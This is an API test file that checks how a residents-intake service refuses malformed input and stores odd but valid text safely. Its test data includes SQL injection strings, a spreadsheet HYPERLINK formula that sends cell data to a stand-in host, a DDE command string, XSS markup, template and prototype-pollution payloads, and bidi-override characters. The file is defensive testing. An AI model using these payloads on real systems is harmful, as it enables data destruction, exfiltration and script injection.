import { newId } from '../../src/platform/ids.js';
import { startTestApp, type Caller, type TestApp } from '../support/app.js';
import { aResident, ok } from '../support/casework.js';
import { changedTables, faultOfAnswer, sendRaw, storedMarks, type Answered } from './hostile/world.js';

const c = (...points: number[]): string => String.fromCodePoint(...points);
const pointersOf = (answer: Answered): string[] => [
  ...new Set<string>(answer.body.errors.map((fault: { pointer: string }) => fault.pointer)),
];

describe('bad input at intake', () => {
  let app: TestApp;
  let desk: Caller;
  let unit: { id: string };
  let marks: () => Promise<Map<string, string>>;

  beforeAll(async () => {
    app = await startTestApp();
    unit = await app.aUnit();
    desk = await app.aStaff(['intake', 'social_worker'], { unit });
    await aResident(desk);
    marks = await storedMarks(app);
  });
  afterAll(() => app.close());

  const send = (payload: string | Buffer, type = 'application/json', url = '/api/v1/residents'): Promise<Answered> =>
    sendRaw(app, { method: 'POST', url, caller: desk, payload, headers: { 'content-type': type } });

  /** Sends what must be refused as a problem, without anything being stored. */
  async function refused(
    body: string | Buffer | object,
    status: number,
    type?: string,
    url?: string,
  ): Promise<Answered> {
    const before = await marks();
    const answer = await send(
      typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body),
      type,
      url,
    );
    expect([answer.status, faultOfAnswer(answer)]).toEqual([status, null]);
    expect(changedTables(before, await marks())).toEqual([]);
    return answer;
  }

  /** Sends what is strange but right, and gives back what is then read. */
  async function kept(body: object): Promise<Record<string, any>> {
    const { id } = await ok(desk.post('/api/v1/residents', body), 201);
    return ok(desk.get(`/api/v1/residents/${id}`));
  }

  describe('that is no JSON object', () => {
    it.each(['{"callName":"Deniz"', '{callName:"Deniz"}', '{"callName":"Deniz",}', '{"callName":"a\nb"}', '\u0000'])(
      'is refused: %j',
      async (body) => expect((await refused(body, 400)).body.code).toBe('body-not-json'),
    );

    it.each(['[]', 'null', '"Deniz"', '7', ''])('is refused although it is JSON, or nothing: %j', async (body) => {
      const answer = await refused(body, 422);
      expect(answer.body.errors).toEqual([{ pointer: '', code: 'not-an-object', detail: 'must be an object' }]);
    });

    it.each([
      ['a lone continuation byte', [0x80]],
      ['a cut sequence', [0xc3]],
      ['an overlong slash', [0xc0, 0xaf]],
      ['an encoded surrogate', [0xed, 0xa0, 0x80]],
      ['Windows-1254', [0xdd]],
    ])('is refused when its bytes are not UTF-8: %s', async (_, bytes) => {
      const body = Buffer.concat([Buffer.from('{"callName":"De'), Buffer.from(bytes), Buffer.from('niz"}')]);
      expect((await refused(body, 400)).body.code).toBe('body-not-utf8');
    });

    it('is refused at ten megabytes, as large', async () => {
      const answer = await refused(
        JSON.stringify({ callName: 'Deniz', neighbourhood: 'x'.repeat(10 * 1024 * 1024) }),
        413,
      );
      expect(answer.body.code).toBe('body-too-large');
    });

    it('is refused just under the limit too, at the field', async () => {
      const answer = await refused({ callName: 'Deniz', neighbourhood: 'x'.repeat(1_000_000) }, 422);
      expect(pointersOf(answer)).toEqual(['/neighbourhood']);
    });

    it.each(['application/x-www-form-urlencoded', 'text/plain', 'application/xml', 'multipart/form-data; boundary=x'])(
      'is refused as %s, which a page elsewhere could send',
      async (type) => expect((await refused('callName=Deniz', 400, type)).body.code).toBe('media-type'),
    );

    it('with one key twice counts as what came last, and is checked as that', async () => {
      expect(pointersOf(await refused('{"callName":"Deniz","callName":7}', 422))).toEqual(['/callName']);
    });

    it.each([
      '{"callName":"Deniz","__proto__":{"unitIds":["x"]}}',
      '{"callName":"Deniz","constructor":{"prototype":{"isAdmin":true}}}',
    ])('reaches no prototype: %s', async (body) => {
      await refused(body, 400);
      expect(({} as Record<string, unknown>)['isAdmin']).toBeUndefined();
    });
  });

  describe('in a name', () => {
    it.each([
      ['400 characters', 'Ş'.repeat(400)],
      ['5,000 characters', 'x'.repeat(5_000)],
      ['121 characters', 'x'.repeat(121)],
      ['emoji', 'Deniz 😀'],
      ['a family of emoji', '👩‍👩‍👧'],
      ['a flag', 'Deniz 🇹🇷'],
      ['a right-to-left override', `Ayşe ${c(0x202e)}kemreD`],
      ['a right-to-left mark', `أحمد${c(0x200f)}`],
      ['a left-to-right mark', `Ali${c(0x200e)}`],
      ['an isolate', `${c(0x2067)}Ali${c(0x2069)}`],
      ['a NUL', `Ali${c(0)}`],
      ['a bell', `Ali${c(7)}`],
      ['a line end', 'Ali\nVeli'],
      ['half a character', 'Ali\ud83d'],
      ['nothing that is seen', c(0x200b, 0x3164)],
      ['spaces', '   '],
      ['nothing', ''],
      ['a number', 42],
      ['a list', ['Ali']],
      ['null', null],
    ])('%s is refused, in each place of a name', async (_, name) => {
      const answer = await refused(
        { callName: name, names: [{ given: name ?? 7, family: 'Örnek' }], neighbourhood: name ?? 7 },
        422,
      );
      expect(pointersOf(answer).toSorted((a, b) => (a < b ? -1 : 1))).toEqual([
        '/callName',
        '/names/0/given',
        '/neighbourhood',
      ]);
    });

    it.each([
      ['120 letters', 'Ş'.repeat(120)],
      ['Arabic', 'أحمد عبد الرحمن'],
      ['an apostrophe and a hyphen', "O'Connor-Öz"],
      ['a joiner between letters', `می${c(0x200c)}خواهم`],
      ['SQL', `'; DROP TABLE core.residents; --`],
      ['a bracket of SQL', `') OR 1=1 --`],
      ['a formula', '=HYPERLINK("http://x.invalid/?"&A1)'],
      ['a formula behind a sign', '+cmd|calc'],
      ['a template', '${7*7} {{7*7}}'],
      ['markup', '<img src=x onerror=alert(1)>'],
      ['a prototype', '__proto__'],
      ['a word of JSON', 'null'],
      ['a placeholder', '$1'],
      ['a backslash', 'a\\'],
    ])('%s is kept as the text it is, found again, and does nothing', async (_, name) => {
      const tables = (await marks()).size;
      const read = await kept({ callName: name, names: [{ given: name }] });
      expect([read['callName'], read['names'][0].given]).toEqual([name, name]);
      const found = await ok(desk.post('/api/v1/residents/search', { text: name }));
      expect(Array.isArray(found.items)).toBe(true);
      expect((await marks()).size).toBe(tables);
    });
  });

  describe('in a birth date', () => {
    it.each([
      ['a day that does not exist', '2026-02-30', 'exact'],
      ['29 February of a common year', '2025-02-29', 'exact'],
      ['zeros', '0000-00-00', 'exact'],
      ['a thirteenth month', '1990-13', 'month'],
      ['a birth in the future', '2099-01-01', 'exact'],
      ['a month in the future', '2099-01', 'month'],
      ['a year in the future', '2099', 'estimated'],
      ['a birth in the Middle Ages', '1066-10-14', 'exact'],
      ['a moment', '1990-01-01T00:00:00Z', 'exact'],
      ['another order', '15.06.1990', 'exact'],
      ['Arabic digits', '١٩٩٠-٠٦-١٥', 'exact'],
      ['a year for an exact date', '1990', 'exact'],
      ['nothing for an exact date', null, 'exact'],
      ['a date for an unknown one', '1990-06-15', 'unknown'],
      ['a number', 19_900_615, 'exact'],
    ])('%s is refused', async (_, value, quality) => {
      expect(pointersOf(await refused({ callName: 'Deniz', birthDate: { value, quality } }, 422))).toEqual([
        '/birthDate/value',
      ]);
    });

    it('a list is refused, whether it holds a date or nothing', async () => {
      for (const birthDate of [[], [{ value: '1990-06-15', quality: 'exact' }]]) {
        expect(pointersOf(await refused({ callName: 'Deniz', birthDate }, 422))).toEqual(['/birthDate']);
      }
    });
  });

  it('with many faults is refused once, with a pointer to each', async () => {
    const answer = await refused(
      {
        callName: 'x'.repeat(400),
        names: [{ given: 'Deniz' }, {}, { given: 7, kind: 'stage' }],
        birthDate: { value: '2099-02-30', quality: 'exact' },
        languages: [{ code: 'ar' }, { code: 'klingon' }, { code: 'ar' }],
        districtCode: 'TUR034001',
        registeredOn: '2026-02-30',
        unitId: `'; DROP TABLE core.residents; --`,
        contact: {
          phones: [{ number: 'call me' }],
          email: 'a\ud83d@example.org',
          addressLines: ['fits', `a${c(0x202e)}b`, 7],
        },
        annex: { status: 'martian', statusFrom: '0000-00-00' },
        isAdmin: true,
        'a/b~c': 1,
      },
      422,
    );
    expect(new Set(pointersOf(answer))).toEqual(
      new Set([
        '/callName',
        '/names/1',
        '/names/2/given',
        '/names/2/kind',
        '/birthDate/value',
        '/languages/1/code',
        '/languages/2',
        '/districtCode',
        '/registeredOn',
        '/unitId',
        '/contact/phones/0/number',
        '/contact/email',
        '/contact/addressLines/1',
        '/contact/addressLines/2',
        '/annex/status',
        '/annex/statusFrom',
        '/isAdmin',
        '/a~1b~0c',
      ]),
    );
  });

  it('that only shows between the fields is refused once as well', async () => {
    const clerk = await app.aStaff(['intake', 'legal_aid'], { units: [unit, await app.aUnit()] });
    const body = {
      callName: 'Deniz',
      annex: { status: 'refugee', statusFrom: '2024-01-02', statusUntil: '2024-01-01' },
    };
    const answer = await sendRaw(app, {
      method: 'POST',
      url: '/api/v1/residents',
      caller: clerk,
      payload: JSON.stringify(body),
    });
    expect(answer.status).toBe(422);
    expect(new Set(pointersOf(answer))).toEqual(new Set(['/annex/statusUntil', '/unitId']));
  });

  describe('in ids', () => {
    it('another unit is answered like one that does not exist', async () => {
      const foreign = await app.aUnit();
      const [theirs, nobodys] = await Promise.all(
        [foreign.id, newId()].map((unitId) => refused({ callName: 'Deniz', unitId }, 422)),
      );
      expect({ ...theirs!.body, requestId: '' }).toEqual({ ...nobodys!.body, requestId: '' });
    });

    it('a file of another unit is answered like one that does not exist, wherever it is named', async () => {
      const there = await app.aStaff('intake', { unit: await app.aUnit() });
      const { id } = await aResident(there);
      const asked = async (residentId: string): Promise<unknown[]> => {
        const answers = [
          await sendRaw(app, { method: 'GET', url: `/api/v1/residents/${residentId}`, caller: desk }),
          await sendRaw(app, {
            method: 'PUT',
            url: `/api/v1/residents/${residentId}`,
            caller: desk,
            payload: '{"callName":"Deniz"}',
          }),
          await sendRaw(app, { method: 'GET', url: `/api/v1/residents/${residentId}/contact`, caller: desk }),
          await send(JSON.stringify({ residentId, sector: 'legal' }), undefined, '/api/v1/cases'),
          await send(JSON.stringify({ members: [{ residentId, role: 'head' }] }), undefined, '/api/v1/households'),
        ];
        return answers.map(({ status, body }) => ({ ...body, status, requestId: '' }));
      };
      const before = await marks();
      const theirs = await asked(id);
      expect(theirs).toEqual(await asked(newId()));
      expect(theirs.slice(0, 4)).toEqual(Array(4).fill(expect.objectContaining({ status: 404, code: 'not-found' })));
      expect(changedTables(before, await marks())).toEqual([]);
    });
  });

  it('in a note is a text like any other: SQL, formulas and templates come back as they were written', async () => {
    const { id: residentId } = await aResident(desk);
    const { id } = await ok(desk.post('/api/v1/cases', { residentId, sector: 'legal' }), 201);
    const texts = [
      `'; DROP TABLE shield.notes; --`,
      '=HYPERLINK("http://x.invalid")',
      '${7*7}',
      '{{7*7}}',
      '<script>alert(1)</script>',
      '😀 👩‍👩‍👧',
      `سلام${c(0x200f)} (PTT)`,
      '__proto__',
      '\\u0000',
      '%00',
    ];
    for (const body of texts) await ok(desk.post(`/api/v1/cases/${id}/notes`, { body }), 201);
    const read = await ok(desk.get(`/api/v1/cases/${id}/notes?limit=50`));
    expect(new Set(read.items.map((note: { body: string }) => note.body))).toEqual(new Set(texts));
    await refused({ body: `a${c(0x202e)}b` }, 422, undefined, `/api/v1/cases/${id}/notes`);
    await refused({ body: 'a\u0000b' }, 422, undefined, `/api/v1/cases/${id}/notes`);
  });
});
